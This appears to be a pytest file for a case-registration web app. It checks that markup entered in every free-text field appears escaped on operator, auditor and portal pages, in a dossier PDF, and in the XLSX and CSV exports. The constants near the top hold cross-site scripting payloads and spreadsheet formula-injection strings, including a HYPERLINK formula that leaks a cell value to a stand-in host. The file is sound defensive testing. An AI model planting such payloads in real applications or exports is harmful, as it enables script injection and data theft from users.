"""Stored HTML and script: a case registered with markup in every free-text field shows it as text on every page
that shows the field, in the dossier PDF, and in the case list's XLSX and CSV, where text that a spreadsheet
would run as a formula is neutralised. On both databases."""
from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from engine.models import ProcessVersion
from tests.domain.conftest import services_on
from tests.web.conftest import WEB_SETTINGS, WEB_USERS
from tests.web.helpers import REGISTRATION, fetch_case, to_investigation
from tests.web.test_portal import Petitioner

SCRIPT = "<script>alert(1)</script>"
IMAGE = '<img src=x onerror="alert(2)">'
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
# Every free-text field of the registration carries markup; the reported party also starts like a formula.
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
MARKUP_CASE = {
    "reported_party": FORMULA + SCRIPT,
    "reported_address": "@SUM(1+1)" + IMAGE,
    "location": "+1 " + SCRIPT,
    "facts": "-2 " + SCRIPT + IMAGE,
    "demands": "\t=1+1 " + IMAGE + SCRIPT,
    "petitioner": dict(REGISTRATION["petitioner"], name="张" + SCRIPT, address=IMAGE + "文三路"),
}
RAW = (SCRIPT, IMAGE, "<img src=x")
PERSONAL_NAME, PHONE = MARKUP_CASE["petitioner"]["name"], MARKUP_CASE["petitioner"]["phone"]


@pytest.fixture
def services(backend, database_copy, clock, tmp_path):
    with services_on(database_copy(WEB_USERS, backend).url, clock, tmp_path, WEB_SETTINGS) as built:
        yield built


@pytest.fixture
def marked_case(services):
    return to_investigation(services, **MARKUP_CASE)


def _assert_escaped(page: str, where: str) -> None:
    for raw in RAW:
        assert raw not in page, f"{where} shows {raw!r} unescaped"


def test_the_operator_pages_show_the_markup_as_text(as_user, marked_case):
    registrar, handler = as_user("reg-hz"), as_user("han-xh")
    pages = {
        "case page": registrar.get(f"/cases/{marked_case.case_id}"),
        "case page, revealed": registrar.post(f"/cases/{marked_case.case_id}/reveal"),
        "case list": registrar.get("/cases"),
        "notice": registrar.get(f"/cases/{marked_case.case_id}/notice"),
        "handler's queue": handler.get("/queue"),
        "task page": handler.get(f"/tasks/{marked_case.task_id('调查核实')}"),
    }
    for where, response in pages.items():
        assert response.status_code == 200, where
        _assert_escaped(response.get_data(as_text=True), where)
    for where in ("case page", "notice", "task page"):
        assert ESCAPED_SCRIPT in pages[where].get_data(as_text=True), where
    revealed = pages["case page, revealed"].get_data(as_text=True)
    assert "张" + ESCAPED_SCRIPT in revealed


def test_the_auditor_pages_and_the_dossier_pdf_show_the_markup_as_text(as_user, marked_case):
    from pypdf import PdfReader

    auditor = as_user("aud-zj")
    for where, path in {"audit case list": "/audit/", "history": f"/audit/cases/{marked_case.case_id}",
                        "reveal log": "/audit/reveals"}.items():
        response = auditor.get(path)
        assert response.status_code == 200, where
        _assert_escaped(response.get_data(as_text=True), where)
    assert ESCAPED_SCRIPT in auditor.get(f"/audit/cases/{marked_case.case_id}").get_data(as_text=True)
    steps = auditor.get(f"/audit/cases/{marked_case.case_id}/steps.json")
    assert steps.mimetype == "application/json"

    pdf = auditor.get(f"/audit/cases/{marked_case.case_id}/dossier.pdf")
    assert pdf.status_code == 200
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.get_data())).pages)
    # Shown as the literal text typed in, not taken as markup (an <img> would have been fetched, not printed).
    assert "<script>alert(1)</script>" in text.replace("\n", "")
    assert "onerror" in text
    # An auditor's role does not reveal the petitioner: the PDF shows the phone masked.
    assert PHONE not in text and "138****0000" in text


def test_the_portal_shows_the_markup_as_text(app, services, marked_case):
    petitioner = Petitioner(app.test_client())
    opened = petitioner.open(marked_case.case_no, fetch_case(services, marked_case.case_id).query_code)
    assert opened.status_code == 302
    page = petitioner.client.get(opened.headers["Location"])
    assert page.status_code == 200
    _assert_escaped(page.get_data(as_text=True), "portal case page")


def test_the_case_list_xlsx_stores_formula_like_text_as_text(as_user, marked_case):
    response = as_user("aud-zj").get("/audit/cases.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)}
    party = cells[FORMULA + SCRIPT]
    assert party.data_type == "s" and party.quotePrefix
    assert [c for c in cells.values() if c.data_type == "f"] == []
    assert [v for v in cells if PERSONAL_NAME in v or PHONE in v] == [], "the list carries no personal data"


def test_the_case_list_csv_neutralises_formula_like_text(as_user, marked_case):
    response = as_user("aud-zj").get("/audit/cases.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    values = [value for row in rows[1:] for value in row]
    assert "'" + FORMULA + SCRIPT in values
    assert [v for v in values if PERSONAL_NAME in v or PHONE in v] == [], "the list carries no personal data"
    assert [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_no_html_page_of_any_route_shows_the_markup_unescaped(app, as_user, services, marked_case):
    """Every GET route of the app (a new page is swept too), for each kind of signed-in user."""
    from tests.web.test_attack_routes import _routes

    with services.db.reader() as session:
        version_id = session.scalar(sa.select(sa.func.max(ProcessVersion.id)))
    values = {"case_id": marked_case.case_id, "task_id": marked_case.task_id("调查核实"),
              "case_no": marked_case.case_no, "version_id": version_id, "process_id": "petition"}
    pages = [(endpoint, url) for endpoint, method, url in _routes(app, values) if method == "GET"]
    shown, seen = [], 0
    for username in ("reg-hz", "sup-hz", "han-xh", "lead-xh", "aud-zj"):
        client = as_user(username)
        for endpoint, url in pages:
            response = client.get(url)
            if response.status_code != 200 or response.mimetype != "text/html":
                continue
            page = response.get_data(as_text=True)
            seen += marked_case.case_no in page
            shown += [(username, endpoint, raw) for raw in RAW if raw in page]
    assert seen >= 10, "the sweep reached the pages that show the case"
    assert shown == []
